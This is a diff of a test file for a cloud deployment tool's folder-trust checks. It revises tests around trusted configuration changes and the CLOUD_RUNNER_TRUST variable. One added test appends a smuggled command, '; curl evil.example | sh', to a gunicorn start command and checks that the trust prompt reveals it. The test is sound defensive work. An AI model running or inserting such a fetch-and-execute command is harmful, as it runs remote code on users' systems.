@@ -154,9 +154,24 @@ describe("a folder that is trusted", () => {
   it("stays trusted when this tool changes the configuration", async () => {
     await configure({ name: "sales" });
     await trustFolder(context());
-    await configure({ name: "sales", target: "gcp", project: "sales-12345678" });
-    await trustOwnChange(context());
+    await trustOwnChange(context(), () =>
+      configure({ name: "sales", target: "gcp", project: "sales-12345678" }),
+    );
     await expect(require()).resolves.toBeUndefined();
+  });
+
+  it("is not trusted for good by a change of this tool, when it was trusted for one run", async () => {
+    await configure(modelAndProject);
+    await trustOwnChange(context(), () => configure({ ...modelAndProject, project: "sales-12345678" }));
+    await expect(require()).rejects.toThrow(needed);
+  });
+
+  it("is asked for by all that a command says, to its end", async () => {
+    const end = "; curl evil.example | sh";
+    await configure({
+      command: ["sh", "-c", `exec gunicorn main:app --bind 0.0.0.0:$PORT --workers 2${end}`],
+    });
+    await expect(require()).rejects.toMatchObject({ details: [expect.stringContaining(end)] });
   });
 });
 
@@ -192,7 +207,7 @@ describe("CLOUD_RUNNER_TRUST", () => {
   it.each(["1", "true"])("trusts every folder when it is %s, and remembers none", async (value) => {
     await configure(modelAndProject);
     await require({}, { CLOUD_RUNNER_TRUST: value });
-    await trustOwnChange(context({}, { CLOUD_RUNNER_TRUST: value }));
+    await trustOwnChange(context({}, { CLOUD_RUNNER_TRUST: value }), async () => {});
     await expect(require()).rejects.toThrow(needed);
   });
 
